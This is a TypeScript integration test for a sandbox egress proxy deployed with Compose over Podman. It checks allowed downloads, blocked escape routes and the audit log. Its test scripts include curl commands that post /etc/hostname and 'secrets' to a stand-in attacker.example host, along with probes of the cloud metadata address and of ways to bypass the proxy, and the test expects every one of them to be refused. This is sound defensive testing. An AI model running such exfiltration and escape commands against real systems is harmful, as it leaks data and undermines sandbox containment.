// deploy/compose.yaml, brought up by a real Compose over a real engine: what a sandbox gets by the proxy, that nothing leads past it, what
// the records say of its day, and what is left when it is taken down.

import { execFileSync, spawn } from "node:child_process";
import { once } from "node:events";
import { cpSync, existsSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { parse, stringify } from "yaml";
import { describeContainers, startEngine, type Engine, type Ran } from "../support/containers.ts";
import { createCa } from "../support/pki.ts";
import { recordingOrigin, type RecordingOrigin } from "../support/recording-origin.ts";

const REPOSITORY = fileURLToPath(new URL("../..", import.meta.url));
const OUTSIDE = "10.213.8.1";
const PROXY = "10.213.7.2";
/** Podman says it of every network, and this Compose takes what the file does not say for a change. */
const PODMANS = { options: { driver: "host-local" } };

describeContainers("compose", () => {
  let engine: Engine;
  let deploy: string;
  let stop: () => Promise<void>;
  let origin: RecordingOrigin;
  let attacker: RecordingOrigin;
  /** A service of the machine's, at all of its addresses. */
  let host: RecordingOrigin;

  beforeAll(async () => {
    engine = await startEngine();
    await engine.sallyport();
    await engine.root("sandbox");
    deploy = join(engine.directory, "deploy");
    cpSync(join(REPOSITORY, "deploy"), deploy, { recursive: true });
    const ca = createCa();
    writeFileSync(join(deploy, "compose/trust.pem"), ca.cert);
    const file = join(deploy, "compose/sallyport.yaml");
    const config = parse(readFileSync(file, "utf8"));
    const networks = [`${OUTSIDE}/32`];
    config.upstream = {
      trust: ["/etc/sallyport/trust.pem"],
      hosts: { "packages.test": [OUTSIDE], "attacker.example": [OUTSIDE] },
    };
    config.policies.default.allow = [{ host: "packages.test", networks }];
    writeFileSync(file, stringify(config));
    const given = parse(readFileSync(join(deploy, "compose.yaml"), "utf8"));
    // The outer network where the test knows it, and what the test's origins are trusted by.
    const trust = "./compose/trust.pem:/etc/sallyport/trust.pem:ro";
    const override = (sandboxes: object): string =>
      stringify({
        services: { sallyport: { volumes: [trust] }, files: { volumes: [trust] } },
        networks: {
          outside: { ipam: { config: [{ subnet: "10.213.8.0/24" }], ...PODMANS } },
          sandboxes: { ...sandboxes, ipam: { config: [{ subnet: "10.213.7.0/24" }], ...PODMANS } },
        },
      });
    writeFileSync(join(deploy, "override.yaml"), override(given.networks.sandboxes));
    stop = await serve(engine);
    execFileSync("nft", ["-f", join(deploy, "compose/host.nft")]);
    const up = await compose("up", "--detach", "sallyport");
    expect(up.code, up.stderr).toBe(0);
    expect(execFileSync("ip", ["link", "show", "sallyport0"], { encoding: "utf8" })).toContain("sallyport0");
    // Podman does not say a bridge's name again, which this Compose takes for a change.
    const { driver_opts: _named, ...sandboxes } = given.networks.sandboxes;
    writeFileSync(
      join(deploy, "compose.yaml"),
      stringify({ ...given, networks: { ...given.networks, sandboxes } }),
    );
    writeFileSync(join(deploy, "override.yaml"), override({ ...sandboxes }));
    await engine.healthy("sallyport_sallyport_1");
    const certificate = ca.issue({ names: ["packages.test", "attacker.example"] });
    origin = await recordingOrigin(certificate, { address: OUTSIDE });
    attacker = await recordingOrigin(certificate, { address: OUTSIDE });
    host = await recordingOrigin(undefined, { address: "0.0.0.0" });
  }, 300_000);
  afterAll(async () => {
    await origin?.[Symbol.asyncDispose]();
    await attacker?.[Symbol.asyncDispose]();
    await host?.[Symbol.asyncDispose]();
    await stop?.();
    execFileSync("nft", ["delete", "table", "inet", "sallyport_sandboxes"]);
    await engine?.[Symbol.asyncDispose]();
  }, 60_000);

  function compose(...args: readonly string[]): Promise<Ran> {
    const files = [
      "-p",
      "sallyport",
      "-f",
      join(deploy, "compose.yaml"),
      "-f",
      join(deploy, "override.yaml"),
    ];
    const env = {
      ...engine.variables,
      DOCKER_HOST: `unix://${engine.directory}/podman.sock`,
      SALLYPORT_IMAGE: "localhost/sallyport",
      SANDBOX_IMAGE: "localhost/sandbox",
    };
    return new Promise((resolve) => {
      const child = spawn("docker-compose", [...files, ...args], { env, stdio: ["ignore", "pipe", "pipe"] });
      const out = { stdout: "", stderr: "" };
      for (const stream of ["stdout", "stderr"] as const)
        child[stream].setEncoding("utf8").on("data", (text: string) => (out[stream] += text));
      child.once("close", (code) => resolve({ code, ...out }));
    });
  }
  const sandbox = (script: string): Promise<Ran> =>
    compose("run", "--rm", "-T", "sandbox", "sh", "-c", script);

  test("what a sandbox is told is what `sallyport env` says", async () => {
    const printed = await compose("run", "--rm", "-T", "files");
    const kept = readFileSync(join(REPOSITORY, "deploy/compose/sandbox.env"), "utf8");
    const lines = (text: string): string[] => text.split(/\r?\n/).filter((line) => /^\w+=/.test(line));
    expect(lines(printed.stdout), printed.stderr).toEqual(lines(kept));
  });

  test("an allowed download, a refused host, a refused method, and no key in sight", async () => {
    const ran = await sandbox(`
      curl -sS -o /dev/null -w '%{http_code}\\n' https://packages.test:${origin.port}/package.tgz
      curl -sS -o /dev/null -w '%{http_code}\\n' -d @/etc/hostname https://packages.test:${origin.port}/up
      curl -sS -o /dev/null -w '%{http_connect}\\n' -d @/etc/hostname https://attacker.example:${attacker.port}/
      ls /etc/sallyport | tr '\\n' ' '`);
    expect(ran.stdout, ran.stderr).toBe("200\n403\n403\napt.conf bundle.pem ca.pem truststore.p12 wgetrc ");
    expect(attacker.connections).toBe(0);
  });

  test.each([
    ["TCP to the outside", `curl -sS -m 3 --noproxy '*' http://${OUTSIDE}:\${ATTACKER}/`],
    ["TCP to a public address", "curl -sS -m 3 --noproxy '*' http://192.0.2.1/"],
    ["IPv6", "curl -sS -m 3 --noproxy '*' 'http://[2001:db8::1]/'"],
    ["the metadata address", "curl -sS -m 3 --noproxy '*' http://169.254.169.254/"],
    ["DNS of its own", "getent hosts attacker.example"],
    [
      "DNS of the engine",
      "dig +time=2 +tries=1 +noall +answer @10.213.7.1 attacker.example | grep -v '^;' | grep .",
    ],
    ["DNS to the outside", "dig +time=2 +tries=1 @192.0.2.53 attacker.example | grep -i 'status:'"],
    ["ICMP", `ping -c 1 -W 2 ${OUTSIDE}`],
    ["the host", "curl -sS -m 3 --noproxy '*' http://10.213.7.1:${HOST}/"],
    [
      "the host by its link",
      "for one in $(ip -6 neigh | cut -d' ' -f1) fe80::1; do curl -sS -m 3 --noproxy '*' \"http://[$one%25eth0]:${HOST}/\" && exit 0; done; exit 1",
    ],
    ["the proxy's API", `curl -sS -m 3 --noproxy '*' http://${PROXY}:9128/healthz`],
    ["the proxy's API by the proxy", `curl -sS -f -m 3 http://${PROXY}:9128/healthz`],
    ["the proxy's API by its loopback", "curl -sS -f -m 3 http://127.0.0.1:9128/healthz --noproxy none.test"],
  ])("%s leads nowhere", async (_what, script) => {
    const ran = await sandbox(
      script.replace("${ATTACKER}", String(attacker.port)).replace("${HOST}", String(host.port)),
    );
    expect(ran.code, ran.stdout + ran.stderr).not.toBe(0);
    expect(attacker.connections).toBe(0);
  });

  test("a day in its life stands in the records, and nothing is left but the volumes", async () => {
    await sandbox(`curl -sS -o /dev/null https://packages.test:${origin.port}/installed
      curl -sS -d secrets https://attacker.example:${attacker.port}/collect; true`);
    const cli = ["/usr/local/bin/node", "/opt/sallyport/dist/cli/main.js"];
    const told = await compose(
      "exec",
      "-T",
      "sallyport",
      ...cli,
      "audit",
      "tail",
      "--all",
      "--sandbox",
      "compose",
    );
    expect(told.stdout, told.stderr).toMatch(/allow +compose +GET https:\/\/packages\.test:\d+\/installed/);
    expect(told.stdout).toMatch(/deny +compose +CONNECT attacker\.example:\d+ +host-not-allowed/);
    expect(told.stdout).toMatch(/deny +compose +GET http:\/\/10\.213\.7\.2:9128/);
    expect(await compose("down")).toMatchObject({ code: 0 });
    expect(await engine.podman(["ps", "--all", "--quiet"])).toBe("");
    expect((await engine.podman(["network", "ls", "--format", "{{.Name}}"])).split("\n")).toEqual(["podman"]);
    expect((await engine.podman(["volume", "ls", "--format", "{{.Name}}"])).split("\n").toSorted()).toEqual([
      "sallyport_data",
      "sallyport_files",
    ]);
  });
});

/** The engine's API, for Compose. */
async function serve(engine: Engine): Promise<() => Promise<void>> {
  const socket = join(engine.directory, "podman.sock");
  const service = spawn("podman", ["system", "service", "--time", "0", `unix://${socket}`], {
    env: engine.variables,
    stdio: "ignore",
  });
  const ended = once(service, "exit");
  for (let tries = 0; tries < 200 && !existsSync(socket); tries++)
    await new Promise((resolve) => setTimeout(resolve, 50));
  return async () => {
    service.kill();
    await ended;
  };
}
